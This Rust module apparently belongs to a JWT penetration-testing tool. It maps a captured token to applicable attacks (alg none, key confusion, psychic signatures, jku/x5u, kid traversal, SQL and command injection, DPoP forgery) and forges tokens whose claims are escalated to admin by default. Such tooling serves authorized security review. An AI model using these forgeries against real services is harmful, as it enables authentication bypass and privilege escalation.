//! Forging the known JWT attacks from a captured token: which attacks apply to a token and
//! the inputs given, and the forged tokens of each (plus the key files a `jku`/`x5u` attack
//! needs hosted). Values only: `cmd::forge` prints them and `probe` sends them.

mod claims;
mod dpop;
mod jwk_text;
mod keyed;
mod kid;
mod known;
mod sig;
pub(crate) mod sign2n;
pub(crate) mod sign2n_gmp;
pub mod table;

#[cfg(test)]
mod tests;

use serde_json::{Map, Value};

use crate::alg::{Alg, Family, Hash};
use crate::keys::{Jwk, Secret};
use crate::token::Jws;
use crate::{b64, Error, Result};

pub use table::{attack, names, Attack, Need, ATTACKS};

/// The server's public key as the user gave it: the bytes of the file (a confused server
/// HMACs exactly these) and the keys read from them.
#[derive(Clone, Debug)]
pub(crate) struct PublicKeyInput {
    pub raw: Vec<u8>,
    pub keys: Vec<Jwk>,
}

/// What the user gave besides the token.
#[derive(Clone, Debug, Default)]
pub(crate) struct Inputs {
    /// `--public-key`.
    pub public_key: Option<PublicKeyInput>,
    /// `--secret-file`.
    pub secret: Option<Secret>,
    /// `--claim k=v` for `tamper`/`resign`; empty means the default escalation.
    pub claims: Map<String, Value>,
    /// `--jku-url`.
    pub jku_url: Option<String>,
    /// `--x5u-url`.
    pub x5u_url: Option<String>,
    /// Whether `--out-keys` was given (jku/x5u are useless without somewhere to put keys).
    pub out_keys: bool,
    /// The current time (unix seconds), for the pushed-out `exp` and proofs' `iat`.
    pub now: i64,
    /// `--dpop-key` and the request: the DPoP attacks forge proofs for it.
    pub dpop: Option<DpopInputs>,
    /// `--expired-token`: a token the server issued, now expired (`claims-exp` sends it).
    pub expired_token: Option<String>,
}

/// What the DPoP attacks need: the client's key, the request the proofs are for, and the
/// access token they go with (for `ath`).
#[derive(Clone, Debug)]
pub(crate) struct DpopInputs {
    pub key: Jwk,
    pub htm: String,
    pub htu: String,
    pub access_token: String,
}

/// One forged token.
#[derive(Clone, Debug)]
pub(crate) struct Forged {
    /// The attack it belongs to.
    pub attack: &'static Attack,
    /// Which variant of the attack (`nOnE, original signature`, `HS256 spki-pem`, …).
    pub variant: String,
    /// The compact token.
    pub token: String,
}

/// A file the reviewer must host for a `jku`/`x5u` attack: a name inside `--out-keys`.
#[derive(Clone, Debug)]
pub(crate) struct Hosted {
    pub file: &'static str,
    pub contents: Vec<u8>,
}

/// Everything one forge run made.
#[derive(Clone, Debug, Default)]
pub(crate) struct Forgery {
    pub tokens: Vec<Forged>,
    pub hosted: Vec<Hosted>,
    /// Variants that could not be made for this token, and why.
    pub notes: Vec<String>,
}

/// Whether the inputs satisfy what `a` needs; the reason when they do not.
pub(crate) fn missing(a: &Attack, inputs: &Inputs) -> Option<String> {
    let why = match a.needs {
        Need::Nothing => return None,
        Need::PublicKey if inputs.public_key.is_some() => return None,
        Need::Secret if inputs.secret.is_some() => return None,
        Need::HmacKey if inputs.public_key.is_some() || inputs.secret.is_some() => return None,
        Need::JkuUrl if inputs.jku_url.is_some() && inputs.out_keys => return None,
        Need::X5uUrl if inputs.x5u_url.is_some() && inputs.out_keys => return None,
        Need::DpopKey if inputs.dpop.is_some() => return None,
        Need::SecretOrExpired if inputs.secret.is_some() || inputs.expired_token.is_some() => {
            return None
        }
        n => n.flags(),
    };
    Some(format!("attack {} needs {why}", a.name))
}

/// The attacks that apply to `jws` with `inputs`: the default of `forge` and `probe`.
pub(crate) fn applicable(jws: &Jws, inputs: &Inputs) -> Vec<&'static Attack> {
    let ec_token = jws
        .alg()
        .and_then(Alg::from_name)
        .is_some_and(|a| matches!(a.family(), Family::Ecdsa(_)));
    ATTACKS
        .iter()
        .filter(|a| missing(a, inputs).is_none())
        .filter(|a| a.name != "high-s" || ec_token)
        .collect()
}

/// Forge every variant of `attacks` from `jws`. An attack whose needs are not met is a
/// usage error naming the missing flag.
pub(crate) fn forge(jws: &Jws, attacks: &[&'static Attack], inputs: &Inputs) -> Result<Forgery> {
    let base = Base::new(jws, inputs)?;
    let mut out = Forgery::default();
    let mut fresh = keyed::FreshKeys::default();
    for a in attacks {
        if let Some(why) = missing(a, inputs) {
            return Err(Error::usage(why).with_hint(
                "give the input it needs, or leave --attack out to run every attack that applies",
            ));
        }
        let mut push = |variant: String, token: String| {
            out.tokens.push(Forged {
                attack: a,
                variant,
                token,
            })
        };
        match a.name {
            "tamper" => sig::tamper(&base, &mut push),
            "none" => sig::none(&base, &mut push),
            "strip" => sig::strip(&base, &mut push),
            "null-key" => sig::null_key(&base, &mut push),
            "confusion" => sig::confusion(&base, inputs, &mut push)?,
            "psychic" => sig::psychic(&base, inputs, &mut push),
            "x5c" => known::x5c(&base, &mut fresh, &mut push)?,
            "high-s" => {
                let sig = b64::decode(&base.sig_seg).unwrap_or_default();
                known::high_s(&base, &sig, &mut push);
            }
            "jwe-confusion" => known::jwe_confusion(&base, inputs, &mut push)?,
            "alg-case" => sig::alg_case(&base, inputs, &mut push)?,
            "resign" | "typ" | "crit" | "b64" => {
                let secret = inputs.secret.as_ref().map(Secret::expose).unwrap_or(b"");
                if let Some(note) = sig::with_secret(a.name, &base, secret, &mut push) {
                    out.notes.push(note);
                }
            }
            "embedded-jwk" => keyed::embedded_jwk(&base, &mut fresh, &mut push)?,
            "jku" | "x5u" => {
                let hosted = keyed::remote(a.name, &base, inputs, &mut fresh, &mut push)?;
                out.hosted.extend(hosted);
            }
            "kid-traversal" => kid::traversal(&base, &mut push),
            "kid-sqli" => kid::sqli(&base, &mut push),
            "kid-cmdi" => kid::cmdi(&base, &mut push),
            n if n.starts_with("claims-") => claims::forge(n, &base, inputs, &mut push),
            "dpop-replay" | "dpop-private-jwk" | "dpop-hmac" | "dpop-no-ath" => {
                // missing() above made sure the DPoP inputs are there.
                if let Some(d) = &inputs.dpop {
                    dpop::forge(a.name, d, inputs.now, &mut push)?;
                }
            }
            other => return Err(Error::usage(format!("unknown attack {other:?}"))),
        }
    }
    Ok(out)
}

/// The parts of the captured token every attack starts from.
pub(crate) struct Base {
    /// The protected header as written.
    pub header: Map<String, Value>,
    /// The payload segment exactly as captured (signature attacks keep the claims).
    pub payload_seg: String,
    /// The raw payload bytes.
    pub payload_raw: Vec<u8>,
    /// The signature segment as captured.
    pub sig_seg: String,
    /// The token's alg, when it is one jot knows.
    pub alg: Option<Alg>,
    /// The escalated claims for `tamper` and `resign`.
    pub tampered: Map<String, Value>,
}

impl Base {
    fn new(jws: &Jws, inputs: &Inputs) -> Result<Base> {
        let (_, payload_seg) = jws
            .signing_input
            .split_once('.')
            .ok_or_else(|| Error::input("the token has no payload segment"))?;
        let mut tampered = jws.claims().cloned().unwrap_or_default();
        if inputs.claims.is_empty() {
            tampered.insert("role".into(), Value::String("admin".into()));
            tampered.insert("admin".into(), Value::Bool(true));
            tampered.insert("exp".into(), Value::from(inputs.now + 365 * 86_400));
        } else {
            tampered.extend(inputs.claims.clone());
        }
        Ok(Base {
            header: jws.header.clone(),
            payload_seg: payload_seg.to_owned(),
            payload_raw: jws.payload_raw.clone(),
            sig_seg: b64::encode(&jws.signature),
            alg: jws.alg().and_then(Alg::from_name),
            tampered,
        })
    }

    /// The token's own HMAC hash when it is HS*, else SHA-256 (HS256).
    pub(crate) fn hmac_hash(&self) -> Hash {
        match self.alg {
            Some(a) if a.is_symmetric() => a.hash(),
            _ => Hash::Sha256,
        }
    }

    /// The original header with `alg` replaced (its position kept).
    pub(crate) fn header_with_alg(&self, alg: &str) -> Map<String, Value> {
        let mut h = self.header.clone();
        h.insert("alg".into(), Value::String(alg.into()));
        h
    }
}

/// base64url of a JSON object.
pub(crate) fn seg(m: &Map<String, Value>) -> String {
    // Serialising a map of JSON values cannot fail.
    b64::encode(&serde_json::to_vec(m).unwrap_or_default())
}

/// `header.payload` signed with HMAC-`hash` under `key`.
pub(crate) fn hmac_token(
    header: &Map<String, Value>,
    payload_seg: &str,
    hash: Hash,
    key: &[u8],
) -> String {
    let input = format!("{}.{payload_seg}", seg(header));
    let mac = hash.hmac(key, input.as_bytes());
    format!("{input}.{}", b64::encode(&mac))
}

/// `header.payload` signed with an asymmetric `key` under `alg`.
pub(crate) fn key_token(
    key: &Jwk,
    alg: Alg,
    header: &Map<String, Value>,
    payload_seg: &str,
) -> Result<String> {
    let input = format!("{}.{payload_seg}", seg(header));
    let sig = key.sign(alg, input.as_bytes())?;
    Ok(format!("{input}.{}", b64::encode(&sig)))
}
